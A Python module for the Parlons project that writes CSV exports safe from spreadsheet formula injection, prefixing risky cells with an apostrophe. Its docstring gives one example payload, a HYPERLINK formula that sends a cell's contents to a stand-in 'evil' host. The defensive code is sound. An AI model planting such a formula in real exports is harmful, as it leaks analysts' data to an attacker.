"""CSV that a spreadsheet opens safely: the one writer of every CSV file Parlons hands out (the
API's exports, Pol.is's files, the staff page's downloads).

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is read by Excel,
LibreOffice or Google Sheets as a formula: a resident's idea `=HYPERLINK("http://evil/?"&A1)`
would run in the analyst's spreadsheet (OWASP: CSV injection). Such a text cell is written
with a leading apostrophe, which spreadsheets take as "this is text" and do not show. A real
number stays a number: -1 (a Pol.is vote, a comment without author) is written as it is.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

# The ASCII ones (OWASP), and their full-width forms, which some spreadsheets also take.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """`value` as a spreadsheet should read it: text that would be a formula becomes text."""
    if not isinstance(value, str):
        return value  # numbers (and None, written empty) are never formulas
    # Leading spaces or line breaks do not protect the formula after them in every program.
    start = value.lstrip()
    if value.startswith(FORMULA_STARTS) or start.startswith(FORMULA_STARTS):
        if not NUMBER.fullmatch(start):
            return "'" + value
    return value


def to_csv(rows: Iterable[Sequence[object]]) -> str:
    """The rows as CSV text (a header first, as given), every cell through `safe_cell`."""
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()
